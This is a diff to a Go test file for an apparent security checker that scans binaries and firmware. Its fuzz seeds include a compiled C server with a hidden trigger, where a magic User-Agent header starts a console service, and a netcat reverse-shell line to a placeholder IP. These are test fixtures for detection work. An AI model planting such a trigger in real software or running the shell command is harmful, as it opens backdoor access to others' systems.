@@ -19,6 +19,9 @@ import (
 func TestGolden(t *testing.T) { checktest.Golden(t, Check, service.Check) }
 
 func Fuzz(f *testing.F) {
+	if gcc, err := exec.LookPath("gcc"); err == nil {
+		f.Add(built(f, gcc, `if (strstr(b, "User-Agent: extel-care HELODBG")) system("/etc/init.d/console start");`, `"http://192.175.48.5/"`))
+	}
 	checktest.Fuzz(f, Check, []byte("#!/bin/sh\nnc 203.0.113.7 1 -e sh\n"), []byte("C:Q1aaaaaaaaaaaaaaaaaaaaaaaa\nF:usr/sbin\nR:a\n"), []byte("/a\n/usr/sbin/b\n"), []byte("20250501120000\n"), []byte("ro.build.date.utc=1746057600\n"))
 }
 
@@ -139,7 +142,7 @@ int main(void) {
 `
 
 // built compiles a server that does something when it is sent a text.
-func built(t *testing.T, gcc, trigger, address string) []byte {
+func built(t testing.TB, gcc, trigger, address string) []byte {
 	t.Helper()
 	dir := t.TempDir()
 	src, bin := filepath.Join(dir, "s.c"), filepath.Join(dir, "s")
